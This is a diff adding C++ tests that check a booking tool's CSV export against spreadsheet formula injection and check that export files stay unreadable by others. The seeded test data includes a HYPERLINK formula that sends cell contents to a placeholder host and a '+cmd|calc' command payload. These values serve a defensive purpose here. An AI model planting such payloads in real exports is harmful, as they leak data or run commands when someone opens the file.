@@ -275,6 +275,49 @@ TEST_F(Export, MemoryDoesNotGrowWithTheNumberOfBookings) {
     remove_tree(dir);
 }
 
+// SPEC §5: a customer's name or notes that a spreadsheet would run as a
+// formula reach the export's CSV (and every --format csv) after a '.
+TEST_F(Export, CsvWritesFormulasAsTextWithAQuoteMarkBeforeThem) {
+    const std::string name = "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")";
+    auto eve = seed_user("eve@example.com", name);
+    seed_booking(eve, "consultation", "main", "2027-08-02 09:00", "confirmed", "+cmd|calc");
+    seed_booking(eve, "consultation", "main", "2027-08-03 09:00", "confirmed", "@SUM(1)");
+    seed_booking(eve, "consultation", "main", "2027-08-04 09:00", "confirmed", "\tx\r\n-y");
+    auto run = ctl({"export", "bookings", "--from", "2027-08-01", "--to", "2027-08-31"});
+    ASSERT_TRUE(ExitedWith(run, kOk));
+    auto records = parse_csv(run.out);
+    ASSERT_EQ(records.size(), 4u) << run.out;
+    EXPECT_EQ(records[1][7], "'" + name);
+    EXPECT_EQ(records[1][9], "'+cmd|calc");
+    EXPECT_EQ(records[2][9], "'@SUM(1)");
+    EXPECT_EQ(records[3][9], "'\tx\r\n-y");
+    EXPECT_EQ(records[1][8], "eve@example.com");  // nothing else changes
+
+    auto users = ctl({"users", "list", "--format", "csv"});
+    ASSERT_TRUE(ExitedWith(users, kOk));
+    EXPECT_NE(users.out.find(",\"'=HYPERLINK("), std::string::npos) << users.out;
+    EXPECT_EQ(users.out.find(",\"=HYPERLINK("), std::string::npos) << users.out;
+}
+
+// SPEC §5: files of personal data are created without any permission for
+// others, whatever the umask; the temporary file is never more open.
+TEST_F(Export, OutputFilesAreNotReadableByOthersWhateverTheUmask) {
+    auto dir = make_temp_dir("booking-export");
+    const mode_t old_umask = ::umask(0);
+    auto run = ctl({"export", "bookings", "--output", dir + "/open.csv"});
+    ::umask(077);
+    auto strict = ctl({"export", "bookings", "--format", "ics", "--output", dir + "/strict.ics"});
+    ::umask(old_umask);
+    ASSERT_TRUE(ExitedWith(run, kOk));
+    ASSERT_TRUE(ExitedWith(strict, kOk));
+    struct stat file {};
+    ASSERT_EQ(::stat((dir + "/open.csv").c_str(), &file), 0);
+    EXPECT_EQ(file.st_mode & 0777, 0640u) << std::oct << (file.st_mode & 0777);
+    ASSERT_EQ(::stat((dir + "/strict.ics").c_str(), &file), 0);
+    EXPECT_EQ(file.st_mode & 0777, 0600u) << std::oct << (file.st_mode & 0777);
+    remove_tree(dir);
+}
+
 TEST_F(Export, RefusesBadArguments) {
     EXPECT_TRUE(FailedWith(ctl({"export", "bookings", "--format", "xml"}), kUsage));
     EXPECT_TRUE(FailedWith(ctl({"export", "bookings", "--from", "2027-07-32"}), kUsage));
